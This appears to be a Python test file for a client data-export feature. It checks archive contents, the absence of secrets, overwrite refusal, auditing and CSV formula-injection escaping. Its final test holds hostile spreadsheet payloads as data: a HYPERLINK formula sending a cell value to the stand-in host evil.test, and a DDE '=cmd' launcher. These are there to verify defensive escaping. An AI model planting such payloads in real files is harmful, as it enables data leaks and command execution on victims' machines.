"""It's your data: a client's export holds every aggregate, its connections and links, no secret."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import stat
import zipfile

import polars as pl
import pytest
from sqlalchemy import select
from support import (
    add_stripe_connection,
    add_tenant_with_facts,
    fetch_to_staging,
    remember_secret,
)

from writevue_pipelines import cli, links, refresh, registry, warehouse
from writevue_pipelines.errors import InvalidInput
from writevue_pipelines.models import Credential, DashboardLink, Fact
from writevue_pipelines.privacy import export_tenant, list_events

KEY = "sk_test_export_key_0007"


@pytest.fixture
def client(runtime, sandbox):
    tenant_id, connection_id = add_stripe_connection(
        runtime, sandbox.url, remember_secret(KEY), name="Export Co", email="data@export.test"
    )
    fetch_to_staging(runtime, connection_id)
    refresh.load_connection(runtime, connection_id)
    with runtime.db.session() as session:
        _, token = links.create_link(session, tenant_id, label="office TV")
    return tenant_id, connection_id, token


def test_export_round_trip_equals_the_warehouse(runtime, client, tmp_path):
    tenant_id, connection_id, token = client
    # Figures the test itself puts beside the refreshed ones, on days no refresh reads.
    known = pl.DataFrame(
        {
            "metric": ["charges", "gross_volume", "gross_volume"],
            "dimension": ["", "usd", "eur"],
            "day": [dt.date(2001, 2, 3), dt.date(2001, 2, 3), dt.date(2001, 2, 4)],
            "value": [7.0, 1234.56, -0.5],
        }
    )
    with runtime.db.session() as session:
        connection = registry.get_connection(session, connection_id)
        warehouse.upsert_facts(session, connection, known, window_start=None)
        # Every fact of the tenant, row by row, as the table holds it.
        stored = session.execute(
            select(Fact.connection_id, Fact.metric, Fact.dimension, Fact.day, Fact.value).where(
                Fact.tenant_id == tenant_id
            )
        ).all()
    facts = sorted((c, "stripe", m, d, day, v) for c, m, d, day, v in stored)
    assert {
        (connection_id, "stripe", *row)
        for row in known.select("metric", "dimension", "day", "value").iter_rows()
    } <= set(facts)
    # How the client's dashboard is set up is theirs too: settings and goals.
    from writevue_pipelines import goals, tenant_settings

    with runtime.db.session() as session:
        tenant_settings.update_settings(
            session, tenant_id, locale="de", polarity_set={"stripe.fees": "neutral"}
        )
        goals.set_goal(session, tenant_id, "stripe.charges", 120.0, period="month")
    folder = tmp_path / "exports"
    folder.mkdir()
    out = folder / "export.zip"
    report = export_tenant(runtime, tenant_id, out)
    assert report.path == out and report.facts > 0 and report.connections == 1
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert [p.name for p in folder.iterdir()] == ["export.zip"]  # no temp file left

    with zipfile.ZipFile(out) as archive:
        names = set(archive.namelist())
        assert names == {
            "README.txt",
            "client.json",
            "connections.csv",
            "links.csv",
            "aggregates.csv",
            "aggregates.parquet",
            "dashboard.json",
            "notifications.json",
        }
        dashboard = json.loads(archive.read("dashboard.json"))
        assert (dashboard["locale"], dashboard["polarity"]) == ("de", {"stripe.fees": "neutral"})
        assert [(g["metric"], g["period"], g["target"]) for g in dashboard["goals"]] == [
            ("stripe.charges", "month", 120.0)
        ]
        parquet = pl.read_parquet(io.BytesIO(archive.read("aggregates.parquet")))
        from_csv = pl.read_csv(
            io.BytesIO(archive.read("aggregates.csv")),
            schema_overrides={"dimension": pl.String, "day": pl.Date},
        ).with_columns(pl.col("dimension").fill_null(""))
        client_json = json.loads(archive.read("client.json"))
        connections = list(csv.DictReader(io.StringIO(archive.read("connections.csv").decode())))
        link_rows = list(csv.DictReader(io.StringIO(archive.read("links.csv").decode())))
        readme = archive.read("README.txt").decode()
        everything = b"".join(archive.read(name) for name in names)

    columns = ("connection_id", "source", "metric", "dimension", "day", "value")
    assert sorted(parquet.select(columns).iter_rows()) == facts
    assert sorted(from_csv.select(columns).iter_rows()) == facts
    assert from_csv.height == report.facts == len(facts)
    assert client_json == {
        "id": tenant_id,
        "name": "Export Co",
        "email": "data@export.test",
        "created_at": client_json["created_at"],
    }
    assert [(c["id"], c["source"], c["auth_kind"]) for c in connections] == [
        (connection_id, "stripe", "api_key")
    ]
    assert [row["label"] for row in link_rows] == ["office TV"]
    assert "aggregates.parquet" in readme and "never shown back" in readme
    # No secret of any kind: not the API key, not the link's token, not its hash.
    with runtime.db.session() as session:
        (hashed,) = session.query(DashboardLink.token_sha256).all()[0]
        (blob,) = session.query(Credential.ciphertext).first()
    for secret in (KEY.encode(), token.encode(), hashed.encode(), blob):
        assert secret not in everything


def test_export_refuses_to_overwrite_and_bad_paths_leave_nothing(runtime, client, tmp_path):
    tenant_id, _, _ = client
    tmp_path = tmp_path / "exports"
    tmp_path.mkdir()
    out = tmp_path / "export.zip"
    out.write_bytes(b"an earlier export")
    with pytest.raises(InvalidInput, match="--force"):
        export_tenant(runtime, tenant_id, out)
    assert out.read_bytes() == b"an earlier export"
    export_tenant(runtime, tenant_id, out, force=True)
    assert zipfile.is_zipfile(out)
    with pytest.raises(InvalidInput, match="does not exist"):
        export_tenant(runtime, tenant_id, tmp_path / "missing" / "x.zip")
    with pytest.raises(InvalidInput, match=r"\.zip"):
        export_tenant(runtime, tenant_id, tmp_path / "x.txt")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.zip"]


def test_cli_export_is_audited(runtime, client, tmp_path, capsys):
    tenant_id, _, _ = client
    out = tmp_path / "cli.zip"
    assert cli.main(["tenant", "export", tenant_id, "--out", str(out), "--actor", "dana"]) == 0
    assert capsys.readouterr().out.strip() == str(out)
    assert cli.main(["tenant", "export", tenant_id, "--out", str(out)]) == 2
    assert "already exists" in capsys.readouterr().err
    unknown = "00000000-0000-4000-8000-000000000000"
    assert cli.main(["tenant", "export", unknown, "--out", str(tmp_path / "u.zip")]) == 2
    assert "No tenant" in capsys.readouterr().err
    assert not (tmp_path / "u.zip").exists()
    events = [(e.actor, e.action, e.tenant_id) for e in list_events(runtime, tenant_id)]
    assert events == [("dana", "tenant.export", tenant_id)]
    with runtime.db.session() as session:
        assert registry.get_tenant(session, runtime.keys, tenant_id).name == "Export Co"


HOSTILE = ('=HYPERLINK("http://evil.test/?x="&A1,"Click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx")


def test_no_exported_csv_cell_starts_a_formula_and_numbers_stay_numbers(runtime, tmp_path):
    day = dt.date(2026, 1, 15)
    facts = pl.DataFrame(
        {
            "metric": ["charges", *HOSTILE],
            "dimension": ["", *HOSTILE],
            "day": [day] * (1 + len(HOSTILE)),
            "value": [-12.5, *range(len(HOSTILE))],
        }
    )
    tenant_id, _ = add_tenant_with_facts(runtime, "Formula Co", facts)
    with runtime.db.session() as session:
        links.create_link(session, tenant_id, label="=cmd|' /C calc'!A0")
    out = tmp_path / "export.zip"
    export_tenant(runtime, tenant_id, out)
    with zipfile.ZipFile(out) as archive:
        tables = {
            name: list(
                csv.reader(io.StringIO(archive.read(name).decode()), quoting=csv.QUOTE_NONNUMERIC)
            )
            for name in ("aggregates.csv", "connections.csv", "links.csv")
        }
        parquet = pl.read_parquet(io.BytesIO(archive.read("aggregates.parquet")))
        readme = archive.read("README.txt").decode()
    for name, (header, *rows) in tables.items():
        assert rows and all(isinstance(cell, str) for cell in header), name
        for row in rows:
            for column, cell in zip(header, row, strict=True):
                if name == "aggregates.csv" and column == "value":
                    assert isinstance(cell, float)  # unquoted: a number
                else:
                    assert isinstance(cell, str), (name, column, cell)  # quoted: text
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    header, *rows = tables["aggregates.csv"]
    found = {
        tuple(row[header.index(column)] for column in ("metric", "dimension", "day", "value"))
        for row in rows
    }
    assert len(found) == len(rows)
    assert found == {("charges", "", str(day), -12.5)} | {
        ("'" + value, "'" + value, str(day), float(n)) for n, value in enumerate(HOSTILE)
    }
    assert tables["links.csv"][1][1] == "'=cmd|' /C calc'!A0"
    # The Parquet file keeps every value exactly; the README says why the CSV differs.
    assert set(parquet["dimension"]) == {"", *HOSTILE}
    assert "formula" in readme and "aggregates.parquet" in readme
